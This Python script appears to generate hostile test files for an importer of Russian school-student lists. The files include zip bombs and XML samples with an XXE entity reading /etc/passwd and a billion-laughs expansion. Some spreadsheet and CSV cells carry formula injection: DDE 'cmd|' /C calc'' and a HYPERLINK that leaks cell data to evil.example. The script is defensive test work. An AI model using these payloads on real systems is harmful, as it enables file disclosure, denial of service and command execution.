"""Builds the hostile-file corpus of tests/test_hostile_files.py, deterministically.

The tests build it into a temporary folder each run (nothing of it is kept in the repository); to look at
the files, write them into this folder with

    .venv/bin/python tests/data/hostile/make_corpus.py

Every file is built from bytes here (no timestamps, no randomness), so running the script again gives the
same files. The expected refusal of each file is listed in tests/test_hostile_files.py.
"""

from __future__ import annotations

import codecs
import io
import json
import struct
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
STAMP = (2026, 1, 1, 0, 0, 0)
HEADERS = ["Фамилия", "Имя", "Дата рождения", "Пол", "Класс", "Номер приказа", "Дата приказа"]
GOOD_ROW = ["Иванов", "Иван", "01.01.2015", "М", "5А", "1", "01.09.2026"]

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>")
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{dtd}'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{dtd}'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
SHEET_TAIL = "</sheetData></worksheet>"
XXE = ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, 10)) + "]>")


def column(n: int) -> str:
    letters = ""
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell(ref: str, value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if isinstance(value, str) and value.startswith("&"):  # an entity reference, written as is
        return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: list[list[object]], dtd: str = "", start: int = 1) -> str:
    body = []
    for i, row in enumerate(rows, start):
        body.append(f'<row r="{i}">' + "".join(cell(f"{column(j)}{i}", v) for j, v in enumerate(row, 1))
                    + "</row>")
    return SHEET_HEAD.format(dtd=dtd) + "".join(body) + SHEET_TAIL


def shared_strings(strings: list[str], dtd: str = "", raw: bool = False) -> str:
    items = "".join(f"<si><t>{s if raw else escape(s)}</t></si>" for s in strings)
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + dtd
            + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>')


def zip_bytes(members: list[tuple[str, bytes | str]], level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return out.getvalue()


def xlsx(sheet: str, *, workbook_dtd: str = "", strings: str | None = None, name: str = "Лист1",
         extra: list[tuple[str, bytes | str]] | None = None) -> bytes:
    return zip_bytes([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", ROOT_RELS),
                      ("xl/workbook.xml", WORKBOOK.format(dtd=workbook_dtd, name=name)),
                      ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
                      ("xl/worksheets/sheet1.xml", sheet),
                      ("xl/sharedStrings.xml", strings if strings is not None else shared_strings([])),
                      *(extra or [])])


def shared_sheet(rows: int = 1) -> str:
    """A sheet whose cells all come from sharedStrings: the headers, then `rows` rows of string 7."""
    head = '<row r="1">' + "".join(f'<c r="{column(j)}1" t="s"><v>{j - 1}</v></c>' for j in range(1, 8)) + "</row>"
    body = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>7</v></c><c r="B{i}" t="s"><v>7</v></c></row>'
                   for i in range(2, rows + 2))
    return SHEET_HEAD.format(dtd="") + head + body + SHEET_TAIL


def patch_sizes(data: bytes, size: int) -> bytes:
    """Every declared uncompressed size (local headers and central directory) set to `size`."""
    blob = bytearray(data)
    at = 0
    while (at := blob.find(b"PK\x03\x04", at)) != -1:
        struct.pack_into("<I", blob, at + 22, size)
        at += 4
    at = 0
    while (at := blob.find(b"PK\x01\x02", at)) != -1:
        struct.pack_into("<I", blob, at + 24, size)
        at += 4
    return bytes(blob)


def set_encrypted_flag(data: bytes) -> bytes:
    blob = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := blob.find(signature, at)) != -1:
            flags = struct.unpack_from("<H", blob, at + offset)[0]
            struct.pack_into("<H", blob, at + offset, flags | 1)
            at += 4
    return bytes(blob)


def csv(rows: list[list[str]]) -> str:
    return "".join(";".join(row) + "\n" for row in rows)


def build() -> dict[str, bytes]:
    good_sheet = sheet_xml([HEADERS, GOOD_ROW])
    good = xlsx(good_sheet)
    files: dict[str, bytes] = {}
    # --- zip bombs and containers ---
    files["bomb_ratio.xlsx"] = xlsx(good_sheet, extra=[("xl/media/zeros.bin", b"\x00" * (40 * 2**20))])
    files["bomb_many_entries.xlsx"] = xlsx(good_sheet, extra=[(f"xl/junk/{i}.xml", "<a/>") for i in range(1500)])
    files["bomb_declared_size.xlsx"] = patch_sizes(good, 2**31 - 1)
    files["bomb_spread_ratio.xlsx"] = xlsx(good_sheet, extra=[(f"xl/media/z{i}.bin", b"\x00" * (900 * 1024))
                                                               for i in range(30)])
    files["bomb_sheet_ratio.xlsx"] = xlsx(SHEET_HEAD.format(dtd="") + "<row r=\"1\"/>" * 400_000 + SHEET_TAIL)
    files["zip_encrypted_flag.xlsx"] = set_encrypted_flag(good)
    files["zip_not_a_workbook.xlsx"] = zip_bytes([("readme.txt", "это не книга Excel")])
    files["zip_empty.xlsx"] = zip_bytes([])
    files["truncated_half.xlsx"] = good[: len(good) // 2]
    files["truncated_tail.xlsx"] = good[:-40]
    files["pdf_renamed.xlsx"] = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"
    files["ole_encrypted.xlsx"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"EncryptedPackage" * 8
    files["random_bytes.xlsx"] = bytes((i * 73 + 41) % 256 for i in range(4096))
    files["empty.xlsx"] = b""
    # --- XML attacks ---
    strings = [*HEADERS, "&xxe;"]
    files["xxe_shared_strings.xlsx"] = xlsx(shared_sheet(), strings=shared_strings(strings, XXE, raw=True))
    files["laughs_shared_strings.xlsx"] = xlsx(shared_sheet(), strings=shared_strings([*HEADERS, "&lol9;"], LAUGHS,
                                                                                     raw=True))
    files["xxe_workbook.xlsx"] = xlsx(good_sheet, workbook_dtd=XXE, name="&xxe;")
    files["laughs_sheet.xlsx"] = xlsx(sheet_xml([HEADERS, ["&lol9;", "Иван"]], LAUGHS))
    files["malformed_sheet_xml.xlsx"] = xlsx(good_sheet.replace("</row>", "", 1))
    files["missing_sheet_part.xlsx"] = zip_bytes([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", ROOT_RELS),
                                                  ("xl/workbook.xml", WORKBOOK.format(dtd="", name="Лист1")),
                                                  ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)])
    files["shared_string_out_of_range.xlsx"] = xlsx(shared_sheet(), strings=shared_strings(["Фамилия"]))
    # --- sheet shapes ---
    files["far_cell.xlsx"] = xlsx(SHEET_HEAD.format(dtd="") + '<row r="1"><c r="A1" t="inlineStr"><is><t>Фамилия'
                                  '</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                                  + SHEET_TAIL)
    files["too_many_columns.xlsx"] = xlsx(sheet_xml([[f"c{i}" for i in range(300)]]))
    files["headers_only.xlsx"] = xlsx(sheet_xml([HEADERS]))
    files["duplicate_headers.xlsx"] = xlsx(sheet_xml([[*HEADERS, "Фамилия"], [*GOOD_ROW, "Петров"]]))
    files["empty_rows_100k.xlsx"] = xlsx(sheet_xml([HEADERS] + [[""] * 3] * 100_000
                                                   + [["Иванов", "Иван", "31.02.2015", "М", "5А", "1",
                                                       "01.09.2026"]]))
    files["formulas.xlsx"] = xlsx(sheet_xml([HEADERS,
                                             ['=HYPERLINK("http://evil.example/?"&A3,"Нажми")', "Иван", *GOOD_ROW[2:]],
                                             ["+cmd|' /C calc'!A0", "Иван", *GOOD_ROW[2:]],
                                             ["-2+3", "Иван", *GOOD_ROW[2:]],
                                             ["@SUM(1+1)*cmd|' /C calc'!A0", "Иван", *GOOD_ROW[2:]]]))
    files["bidi_names.xlsx"] = xlsx(sheet_xml([HEADERS, ["Ива\u202eнов", "Иван", *GOOD_ROW[2:]],
                                               ["Петров_x0007_", "Пётр", *GOOD_ROW[2:]],
                                               ["Сидоров", "Сид\u200bор", *GOOD_ROW[2:]]]))
    files["absurd_dates.xlsx"] = xlsx(sheet_xml([HEADERS, ["Иванов", "Иван", "31.02.2015", *GOOD_ROW[3:]],
                                                 ["Петров", "Пётр", "01.01.1800", *GOOD_ROW[3:]],
                                                 ["Сидоров", "Сидор", 2958465, *GOOD_ROW[3:]],
                                                 ["Орлов", "Олег", "01.01.9999", *GOOD_ROW[3:]]]))
    files["wrong_extension_xlsx.csv"] = xlsx(sheet_xml([HEADERS, ["Иванов", "Иван", "32.13.2015", *GOOD_ROW[3:]]]))
    files["huge_cell.xlsx"] = xlsx(sheet_xml([HEADERS, ["Я" * 1_000_000, "Иван", *GOOD_ROW[2:]]]))
    # --- CSV ---
    good_csv = csv([HEADERS, GOOD_ROW])
    files["nul_bytes.csv"] = good_csv.encode() + b"\x00" * 16
    files["invalid_utf8.csv"] = good_csv.encode().replace("Иван".encode(), b"\xd0\x98\xc3\x28\xd0\xbd")
    files["mixed_encodings.csv"] = good_csv.encode() + csv([["Петров", "Пётр", *GOOD_ROW[2:]]]).encode("cp1251")
    files["single_line_10mb.csv"] = b"A" * (10 * 2**20)
    files["formulas.csv"] = csv([HEADERS, ["=HYPERLINK(\"http://evil.example\")", "Иван", *GOOD_ROW[2:]],
                                 ["+cmd", "Иван", *GOOD_ROW[2:]], ["-2+3", "Иван", *GOOD_ROW[2:]],
                                 ["@SUM(A1)", "Иван", *GOOD_ROW[2:]]]).encode()
    files["bidi_names.csv"] = csv([HEADERS, ["Ива\u202eнов", "Иван", *GOOD_ROW[2:]],
                                   ["Петр\u0000ов", "Пётр", *GOOD_ROW[2:]]]).encode()
    files["absurd_dates.csv"] = csv([HEADERS, ["Иванов", "Иван", "31.02.2015", *GOOD_ROW[3:]],
                                     ["Петров", "Пётр", "99.99.9999", *GOOD_ROW[3:]],
                                     ["Сидоров", "Сидор", "01.01.0001", *GOOD_ROW[3:]]]).encode()
    files["empty_rows_100k.csv"] = (csv([HEADERS]) + ";;\n" * 100_000
                                    + csv([["Иванов", "Иван", "31.02.2015", *GOOD_ROW[3:]]])).encode()
    files["headers_only.csv"] = csv([HEADERS]).encode()
    files["duplicate_headers.csv"] = csv([[*HEADERS, "Фамилия"], [*GOOD_ROW, "Петров"]]).encode()
    files["utf16_bom.csv"] = codecs.BOM_UTF16_LE + good_csv.encode("utf-16-le")
    # --- JSON ---
    envelope = {"format": "zhurnal-json", "version": 1, "kind": "lists", "exported_at": "2026-01-01T00:00:00Z",
                "schools": []}

    def doc(tables: object, **more: object) -> bytes:
        return json.dumps({**envelope, **more, "tables": tables}, ensure_ascii=False).encode()

    row = dict(zip(["last_name", "first_name", "birth_date", "sex", "class_name", "order_number", "order_date"],
                   ["Иванов", "Иван", "2015-01-01", "М", "5А", "1", "2026-09-01"], strict=True))
    files["deep_nesting.json"] = b"[" * 200_000 + b"]" * 200_000
    files["deep_nesting_in_row.json"] = doc({"students": [{**row, "address": "X"}]}).replace(
        b'"X"', b"[" * 50 + b"1" + b"]" * 50)
    files["huge_numbers.json"] = doc({"students": [{**row, "snils": 1}]}).replace(b'"snils": 1',
                                                                                  b'"snils": ' + b"9" * 100_000)
    files["huge_float.json"] = doc({"students": [{**row, "snils": 1}]}).replace(b'"snils": 1', b'"snils": 1e999')
    files["nan.json"] = doc({"students": [{**row, "snils": 1}]}).replace(b'"snils": 1', b'"snils": NaN')
    files["wrong_types.json"] = doc({"students": [{**row, "last_name": {"$gt": ""}}]})
    files["wrong_types_bool.json"] = doc({"students": [{**row, "first_name": True}]})
    files["wrong_types_tables.json"] = doc([row])
    files["rows_not_objects.json"] = doc({"students": ["Иванов Иван"]})
    files["not_zhurnal.json"] = json.dumps({"students": [row]}).encode()
    files["wrong_version.json"] = doc({"students": [row]}, version=99)
    files["unknown_table.json"] = doc({"passwords": [{"login": "admin"}]})
    files["store_kind.json"] = doc({"schools": []}, kind="store")
    files["truncated.json"] = doc({"students": [row]})[:-30]
    files["invalid_utf8.json"] = doc({"students": [row]}).replace("Иван".encode(), b"\xff\xfe", 1)
    files["absurd_dates.json"] = doc({"students": [{**row, "birth_date": "2015-02-31"},
                                                   {**row, "last_name": "Петров", "birth_date": 20150101}]})
    return files


def main() -> None:
    for old in HERE.iterdir():
        if old.name != Path(__file__).name and old.is_file():
            old.unlink()
    for name, data in sorted(build().items()):
        (HERE / name).write_bytes(data)
    print(f"{len(build())} files in {HERE}")


if __name__ == "__main__":
    main()
